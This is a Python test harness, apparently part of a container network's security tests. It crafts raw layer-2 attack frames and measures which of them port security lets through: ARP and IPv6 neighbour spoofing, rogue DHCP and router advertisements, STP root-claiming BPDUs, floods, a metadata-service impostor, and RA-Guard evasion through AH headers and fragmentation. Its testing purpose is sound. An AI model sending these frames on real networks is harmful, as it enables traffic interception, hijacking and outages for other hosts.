#!/usr/bin/python3
"""Layer-2 attacks from a container, and where their frames land (issue 13's proof).

Run as root with Debian's /usr/bin/python3; standard library only (raw AF_PACKET
sockets, so a run starts in ~20 ms where importing scapy takes 0.1-0.5 s, and the
suite sends a few hundred probes). Namespaces are named as under /run/netns.

One process does a whole probe, so nothing races: it opens every watch point first
(each socket in its own namespace, through setns), then, from the sender's namespace,
sends the attack frames and after them one legitimate "barrier" datagram per --barrier
(from the sender's own MAC and IPv4 address, or its own global IPv6 address when the
barrier's address is IPv6, so port security must let it pass). It
reads until every barrier token was seen at some watch point, then drains 0.2 s more.
The process is pinned to one CPU: its frames then travel through the veths and bridges
in order, so a barrier that arrived means the attack frames before it were delivered
or dropped. A barrier is also the probe's positive control: the same path carries
legitimate traffic. Timeouts bound the fixture wait; they decide nothing.

Usage: l2attack.py KIND --netns NS [--iface eth0] [--count N] [KIND options]
                   [--watch NS:IFACE]... [--listen NS:PORT]... [--barrier MAC/IP:PORT]...

Watch points:
  --watch NS:IFACE    counts frames received on IFACE carrying this run's marker
  --listen NS:PORT    a UDP socket on [::]:PORT (IPv4 too) in NS: the source address of
                      each datagram carrying the marker (what the service believes)

Kinds (addresses default to the sender's own; every frame carries the run's marker,
in the UDP payload, in an ND option receivers ignore, or as bytes after the packet):
  arp    --op request|reply --sender-ip A [--sender-mac M] --target-ip B
         [--target-mac M] --dst-mac M        (a request to the victim's MAC makes the
                                              victim cache A -> sender MAC)
  udp4   [--dst B] [--dst-mac M] [--src A] [--src-mac M] [--sport 7777] [--dport 7777]
         [--payload dhcp-offer]              (no --dst: a broadcast; DHCP offer:
                                              --sport 67 --dport 68 --payload dhcp-offer)
  udp6   --dst B6 --dst-mac M [--src A6] [--sport 7777] [--dport 7777]
         [--payload dhcpv6-advertise]
  ra     [--prefix 2001:db8:66::]            router advertisement to ff02::1 from the
                                             sender's link-local: a /64 to autoconfigure
                                             and a default route via the sender
  na     --target T6 [--dst ff02::1] [--dst-mac 33:33:00:00:00:01]
                                             unsolicited overriding advertisement:
                                             "T6 is at the sender's MAC"
  vlan   [--vid 42] --target-ip B            802.1Q-tagged broadcast ARP request for B
  bpdu                                       STP configuration BPDU claiming root
  ethertype [--ethertype 0x88b5]             a broadcast frame of another ethertype
  flood  [--count 1500]                      broadcast UDP from the sender's own addresses
  impostor --victim NS --text T              not a frame: serves T on 169.254.169.250:80
                                             in --netns (the attacker must hold that
                                             address), then connects to it from NS as
                                             a metadata client; prints {"answer": ...}

Output: one JSON line
  {"sent": N, "frames": {"NS:IFACE": n}, "sources": {"NS:PORT": [...]}, "barriers": true}.
Exit status 3: a barrier never arrived (legitimate traffic on that path was lost).
"""
import argparse
import ctypes
import fcntl
import json
import os
import select
import socket
import struct
import sys
import time

CLONE_NEWNET = 0x40000000
ETH_P_ALL = 0x0003
PACKET_OUTGOING = 4
SO_RCVBUFFORCE = 33  # not exported by Python's socket module
SIOCGIFHWADDR, SIOCGIFADDR = 0x8927, 0x8915
BROADCAST = "ff:ff:ff:ff:ff:ff"
LIBC = ctypes.CDLL("libc.so.6", use_errno=True)


def enter(namespace):
    """setns(2) into /run/netns/NAMESPACE: sockets created from now on live there."""
    descriptor = os.open("/run/netns/" + namespace, os.O_RDONLY)
    try:
        if LIBC.setns(descriptor, CLONE_NEWNET) != 0:
            raise OSError(ctypes.get_errno(), "setns " + namespace)
    finally:
        os.close(descriptor)


def mac_bytes(text):
    return bytes(int(part, 16) for part in text.split(":"))


def mac_text(raw):
    return ":".join("%02x" % byte for byte in raw)


def own_addresses(interface):
    """The interface's MAC and first IPv4 address (ioctls: sysfs would not follow setns)."""
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    request = struct.pack("256s", interface.encode())
    mac = mac_text(fcntl.ioctl(probe, SIOCGIFHWADDR, request)[18:24])
    try:
        ipv4 = socket.inet_ntoa(fcntl.ioctl(probe, SIOCGIFADDR, request)[20:24])
    except OSError:
        ipv4 = None
    probe.close()
    return mac, ipv4


def link_local(mac):
    """fe80::/64 with the modified EUI-64 interface identifier of MAC (RFC 4291)."""
    raw = bytearray(mac_bytes(mac))
    raw[0] ^= 0x02
    identifier = bytes(raw[:3]) + b"\xff\xfe" + bytes(raw[3:])
    return socket.inet_ntop(socket.AF_INET6, b"\xfe\x80" + bytes(6) + identifier)


def checksum(data):
    if len(data) % 2:
        data += b"\x00"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ethernet(destination, source, ethertype, payload):
    return mac_bytes(destination) + mac_bytes(source) + struct.pack("!H", ethertype) + payload


def arp(op, sender_mac, sender_ip, target_mac, target_ip):
    return (struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1 if op == "request" else 2) + mac_bytes(sender_mac)
            + socket.inet_aton(sender_ip) + mac_bytes(target_mac) + socket.inet_aton(target_ip))


def ipv4_udp(source, destination, sport, dport, payload):
    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0x4000, 64, 17, 0,
                         socket.inet_aton(source), socket.inet_aton(destination))
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    return header + udp


def ipv6(source, destination, next_header, payload, hop_limit=255):
    """An IPv6 packet whose ICMPv6 or UDP checksum (at the usual offset) is filled in."""
    src, dst = socket.inet_pton(socket.AF_INET6, source), socket.inet_pton(socket.AF_INET6, destination)
    pseudo = src + dst + struct.pack("!I3xB", len(payload), next_header)
    offset = 2 if next_header == 58 else 6
    payload = payload[:offset] + struct.pack("!H", checksum(pseudo + payload)) + payload[offset + 2:]
    return struct.pack("!IHBB", 0x60000000, len(payload), next_header, hop_limit) + src + dst + payload


def udp6(sport, dport, payload):
    return struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload


def marker_option(marker):
    """An ND option of the experimental type 253 (RFC 4727) holding MARKER: receivers
    ignore options they do not know (RFC 4861 4.6). Bytes after the packet would not
    do: the bridge's multicast snooping trims IPv6 frames to their payload length."""
    length = -(-(len(marker) + 2) // 8)
    return struct.pack("!BB", 253, length) + marker.ljust(length * 8 - 2, b"\x00")


def router_advertisement(sender_mac, prefix, marker):
    options = struct.pack("!BB", 1, 1) + mac_bytes(sender_mac) + marker_option(marker)
    options += struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 3600, 1800, 0)  # on-link, autonomous
    options += socket.inet_pton(socket.AF_INET6, prefix)
    return struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + options


def neighbour_advertisement(target, sender_mac, marker):
    option = struct.pack("!BB", 2, 1) + mac_bytes(sender_mac) + marker_option(marker)
    return struct.pack("!BBHI", 136, 0, 0, 0x20000000) + socket.inet_pton(socket.AF_INET6, target) + option


def dhcp_offer(server, client_mac):
    """A BOOTREPLY/DHCPOFFER of 10.43.9.9 with the sender as router and server."""
    bootp = struct.pack("!BBBBIHH4s4s4s4s", 2, 1, 6, 0, 0x1337, 0, 0x8000, bytes(4),
                        socket.inet_aton("10.43.9.9"), socket.inet_aton(server), bytes(4))
    bootp += mac_bytes(client_mac) + bytes(10) + bytes(64) + bytes(128) + b"\x63\x82\x53\x63"
    server_ip = socket.inet_aton(server)
    return bootp + b"\x35\x01\x02" + b"\x36\x04" + server_ip + b"\x03\x04" + server_ip + b"\xff"


def dhcpv6_advertise(sender_mac):
    server_duid = struct.pack("!HH", 3, 1) + mac_bytes(sender_mac)
    return b"\x02\x13\x37\x00" + struct.pack("!HH", 2, len(server_duid)) + server_duid


def bpdu(sender_mac):
    bridge_id = struct.pack("!H", 0) + mac_bytes(sender_mac)
    body = struct.pack("!HBBB", 0, 0, 0, 0) + bridge_id + struct.pack("!I", 0) + bridge_id
    body += struct.pack("!HHHHH", 0x8001, 0, 20 * 256, 2 * 256, 15 * 256)
    llc = b"\x42\x42\x03" + body
    return mac_bytes("01:80:c2:00:00:00") + mac_bytes(sender_mac) + struct.pack("!H", len(llc)) + llc


def attack_frames(args, own_mac, own_ipv4, marker):
    """The frames of KIND, each carrying MARKER."""
    src_mac = args.src_mac or own_mac
    kind = args.kind
    if kind == "arp":
        target_mac = args.target_mac or "00:00:00:00:00:00"
        body = arp(args.op, args.sender_mac or own_mac, args.sender_ip, target_mac, args.target_ip)
        return [ethernet(args.dst_mac, src_mac, 0x0806, body) + marker]
    if kind in ("udp4", "flood"):
        destination = args.dst or "255.255.255.255"
        payload = dhcp_offer(own_ipv4, args.dst_mac or BROADCAST) if args.payload == "dhcp-offer" else b""
        packet = ipv4_udp(args.src or own_ipv4, destination, args.sport, args.dport, payload + marker)
        return [ethernet(args.dst_mac or BROADCAST, src_mac, 0x0800, packet)]
    own_link_local = link_local(own_mac)
    if kind == "udp6":
        payload = dhcpv6_advertise(own_mac) if args.payload == "dhcpv6-advertise" else b""
        datagram = udp6(args.sport, args.dport, payload + marker)
        packet = ipv6(args.src or own_link_local, args.dst, 17, datagram, 64)
        return [ethernet(args.dst_mac, src_mac, 0x86DD, packet)]
    if kind == "ra":
        packet = ipv6(own_link_local, "ff02::1", 58, router_advertisement(own_mac, args.prefix, marker))
        return [ethernet("33:33:00:00:00:01", src_mac, 0x86DD, packet)]
    if kind == "na":
        advertisement = neighbour_advertisement(args.target, own_mac, marker)
        packet = ipv6(own_link_local, args.dst or "ff02::1", 58, advertisement)
        return [ethernet(args.dst_mac or "33:33:00:00:00:01", src_mac, 0x86DD, packet)]
    if kind == "vlan":
        inner = struct.pack("!HH", args.vid, 0x0806) + arp("request", own_mac, own_ipv4, "00:00:00:00:00:00",
                                                             args.target_ip)
        return [ethernet(BROADCAST, src_mac, 0x8100, inner) + marker]
    if kind == "bpdu":
        return [bpdu(src_mac) + marker]
    if kind == "ethertype":
        return [ethernet(BROADCAST, src_mac, int(args.ethertype, 0), marker.ljust(46, b"\x00"))]
    return red_team_frames(args, own_mac, own_ipv4, marker)


def open_watch(point):
    namespace, interface = point.split(":")
    enter(namespace)
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    sock.setsockopt(socket.SOL_SOCKET, SO_RCVBUFFORCE, 32 << 20)
    sock.bind((interface, ETH_P_ALL))
    return sock


def open_listener(point):
    namespace, port = point.split(":")
    enter(namespace)
    sock = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
    sock.setsockopt(socket.SOL_SOCKET, SO_RCVBUFFORCE, 32 << 20)
    sock.bind(("::", int(port)))
    return sock


def barrier_frames(barriers, own_mac, own_ipv4, token):
    frames = []
    for index, barrier in enumerate(barriers):
        mac, rest = barrier.split("/")
        address, port = rest.rsplit(":", 1)
        payload = token + b"-%d" % index
        if ":" in address:  # an IPv6 barrier (an IPv6-only network): from the sender's own address
            packet = ipv6(own_ipv6_source(address), address, 17, udp6(7778, int(port), payload), 64)
            frames.append(ethernet(mac, own_mac, 0x86DD, packet))
            continue
        frames.append(ethernet(mac, own_mac, 0x0800, ipv4_udp(own_ipv4, address, 7778, int(port), payload)))
    return frames


def own_ipv6_source(destination):
    """The address the sender's kernel would send from to DESTINATION (a connected UDP
    socket's name; nothing is sent): its own global address on that network."""
    probe = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    probe.connect((destination, 9))
    source = probe.getsockname()[0]
    probe.close()
    return source


def collect(sockets, marker, token, barrier_count, timeout):
    """Reads every socket until each barrier was seen (then 0.2 s more) or TIMEOUT."""
    frames = {name: 0 for name, sock, kind in sockets if kind == "watch"}
    sources = {name: [] for name, sock, kind in sockets if kind == "listen"}
    seen = set()
    deadline = time.monotonic() + timeout
    drain_until = None
    by_socket = {sock: (name, kind) for name, sock, kind in sockets}
    while True:
        now = time.monotonic()
        if drain_until is None and len(seen) == barrier_count:
            drain_until = now + 0.2
        end = drain_until if drain_until is not None else deadline
        if now >= end:
            break
        ready, _, _ = select.select(list(by_socket), [], [], end - now)
        for sock in ready:
            name, kind = by_socket[sock]
            data, address = sock.recvfrom(65535)
            if kind == "watch" and address[2] == PACKET_OUTGOING:
                continue
            for index in range(barrier_count):
                if token + b"-%d" % index in data:
                    seen.add(index)
            if marker in data:
                if kind == "watch":
                    frames[name] += 1
                else:
                    sources[name].append(address[0].removeprefix("::ffff:"))
    return frames, sources, len(seen) == barrier_count


def impostor(args):
    """Serves TEXT as 169.254.169.250:80 in --netns and fetches the metadata from --victim."""
    enter(args.netns)
    server = socket.socket()
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind(("169.254.169.250", 80))
    server.listen(4)
    server.setblocking(False)
    enter(args.victim)
    client = socket.socket()
    client.setblocking(False)
    client.connect_ex(("169.254.169.250", 80))
    answer, deadline = b"", time.monotonic() + args.timeout
    while time.monotonic() < deadline:
        ready, _, _ = select.select([server, client], [], [], deadline - time.monotonic())
        if server in ready:
            connection, _ = server.accept()
            connection.sendall(args.text.encode())
            connection.close()
        if client in ready:
            try:
                chunk = client.recv(64)
            except OSError:
                break
            if not chunk:
                break
            answer += chunk
    print(json.dumps({"answer": answer.decode(errors="replace") or None}))


def parse(argv):
    parser = argparse.ArgumentParser(description="layer-2 attacks (see the module docstring)")
    kinds = ["arp", "udp4", "udp6", "ra", "na", "vlan", "bpdu", "ethertype", "flood", "impostor"] + RED_TEAM_KINDS
    parser.add_argument("kind", choices=kinds)
    parser.add_argument("--netns", required=True)
    parser.add_argument("--iface", default="eth0")
    parser.add_argument("--count", type=int)
    parser.add_argument("--watch", action="append", default=[])
    parser.add_argument("--listen", action="append", default=[])
    parser.add_argument("--barrier", action="append", default=[])
    parser.add_argument("--timeout", type=float, default=5.0)
    for option in ("--op", "--sender-ip", "--sender-mac", "--target-ip", "--target-mac", "--dst-mac",
                   "--src-mac", "--src", "--dst", "--payload", "--target", "--victim", "--text"):
        parser.add_argument(option)
    parser.add_argument("--sport", type=int, default=7777)
    parser.add_argument("--dport", type=int, default=7777)
    parser.add_argument("--prefix", default="2001:db8:66::")
    parser.add_argument("--vid", type=int, default=42)
    parser.add_argument("--ethertype", default="0x88b5")
    return parser.parse_args(argv)


def main(argv):
    args = parse(argv)
    if args.kind == "impostor":
        return impostor(args)
    os.sched_setaffinity(0, {min(os.sched_getaffinity(0))})
    sockets = [(point, open_watch(point), "watch") for point in args.watch]
    sockets += [(point, open_listener(point), "listen") for point in args.listen]
    enter(args.netns)
    own_mac, own_ipv4 = own_addresses(args.iface)
    nonce = os.urandom(6).hex().encode()
    marker, token = b"L2ATTACK-" + nonce, b"L2BARRIER-" + nonce
    count = args.count or (1500 if args.kind == "flood" else 3)
    sender = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sender.bind((args.iface, 0))
    sent = 0
    for _ in range(count):
        for frame in attack_frames(args, own_mac, own_ipv4, marker):
            sender.send(frame)
            sent += 1
    for frame in barrier_frames(args.barrier, own_mac, own_ipv4, token):
        sender.send(frame)
    frames, sources, barriers_seen = collect(sockets, marker, token, len(args.barrier), args.timeout)
    print(json.dumps({"sent": sent, "frames": frames, "sources": sources, "barriers": barriers_seen}))
    if not barriers_seen:
        print("a barrier (legitimate traffic on the watched path) never arrived", file=sys.stderr)
        return 3
    return 0


# Kinds added for PortSecurityRedTeamTests, kept here so that the kinds above read as
# they were; attack_frames hands every kind it does not know to red_team_frames.
#   ra-to  --dst-mac M    the router advertisement of `ra` (from the sender's link-local,
#                         to ff02::1), sent to destination MAC M: a link-local group
#                         address such as 01:80:c2:00:00:0e, which a bridge handles
#                         before its prerouting hook
#   ra-ah                 the router advertisement of `ra` behind an IPsec AH header
#                         (RFC 4302): the ICMPv6 header is there, one header further on
#   ra-late               an advertisement split in two fragments whose first holds only
#                         a destination-options header (carrying the marker) and the
#                         second the ICMPv6 header: RA-Guard evasion, RFC 7113 section 2
#   mld-query             an MLDv2 general query (a multicast router's message, RFC 3810)
#                         to ff02::1, the marker in its hop-by-hop header
RED_TEAM_KINDS = ["ra-to", "ra-ah", "ra-late", "mld-query"]


def icmpv6_body(source, destination, message):
    """MESSAGE with its ICMPv6 checksum filled in, without the IPv6 header."""
    return ipv6(source, destination, 58, message)[40:]


def ipv6_raw(source, destination, next_header, payload, hop_limit=255):
    """An IPv6 header and PAYLOAD as given (no checksum is touched)."""
    src, dst = socket.inet_pton(socket.AF_INET6, source), socket.inet_pton(socket.AF_INET6, destination)
    return struct.pack("!IHBB", 0x60000000, len(payload), next_header, hop_limit) + src + dst + payload


def marker_options(marker, *options):
    """OPTIONS, then MARKER as option type 0x1e (skipped if unknown), padded to 8 bytes less 2."""
    body = b"".join(options) + struct.pack("!BB", 0x1E, len(marker)) + marker
    padding = -(2 + len(body)) % 8
    return body + (struct.pack("!BB", 1, padding - 2) + bytes(padding - 2) if padding > 1 else bytes(padding))


def mld_query(own_mac, marker):
    """An MLDv2 general query from the sender's link-local, router alert and MARKER hop by hop."""
    source = link_local(own_mac)
    query = struct.pack("!BBHHH", 130, 0, 0, 1000, 0) + bytes(16) + struct.pack("!BBH", 2, 125, 0)
    options = marker_options(marker, b"\x05\x02\x00\x00")
    hop_by_hop = struct.pack("!BB", 58, (2 + len(options)) // 8 - 1) + options
    return ipv6_raw(source, "ff02::1", 0, hop_by_hop + icmpv6_body(source, "ff02::1", query), hop_limit=1)


def hidden_advertisement(kind, own_mac, prefix, marker):
    """The IPv6 packets of ra-ah or ra-late, from the sender's link-local to ff02::1."""
    source = link_local(own_mac)
    if kind == "ra-ah":
        body = icmpv6_body(source, "ff02::1", router_advertisement(own_mac, prefix, marker))
        header = struct.pack("!BBHII", 58, 4, 0, 0x1000, 1) + bytes(12)  # 24 bytes: next header ICMPv6
        return [ipv6_raw(source, "ff02::1", 51, header + body)]
    body = icmpv6_body(source, "ff02::1", router_advertisement(own_mac, prefix, b""))
    options = marker_options(marker)
    destination_options = struct.pack("!BB", 58, (2 + len(options)) // 8 - 1) + options
    first = struct.pack("!BBHI", 60, 0, 1, 0x5EED) + destination_options  # offset 0, more fragments
    # Offset field: the offset in 8-byte units, shifted left 3 (= its byte count), M = 0.
    second = struct.pack("!BBHI", 60, 0, len(destination_options), 0x5EED) + body
    return [ipv6_raw(source, "ff02::1", 44, first), ipv6_raw(source, "ff02::1", 44, second)]


def red_team_frames(args, own_mac, own_ipv4, marker):
    """The frames of the red team's kinds, each carrying MARKER."""
    if args.kind == "ra-to":
        advertisement = router_advertisement(own_mac, args.prefix, marker)
        packet = ipv6(link_local(own_mac), "ff02::1", 58, advertisement)
        return [ethernet(args.dst_mac, args.src_mac or own_mac, 0x86DD, packet)]
    if args.kind in ("ra-ah", "ra-late"):
        packets = hidden_advertisement(args.kind, own_mac, args.prefix, marker)
        return [ethernet("33:33:00:00:00:01", args.src_mac or own_mac, 0x86DD, packet) for packet in packets]
    if args.kind == "mld-query":
        return [ethernet("33:33:00:00:00:01", args.src_mac or own_mac, 0x86DD, mld_query(own_mac, marker))]
    raise SystemExit("unknown kind " + args.kind)

if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]) or 0)
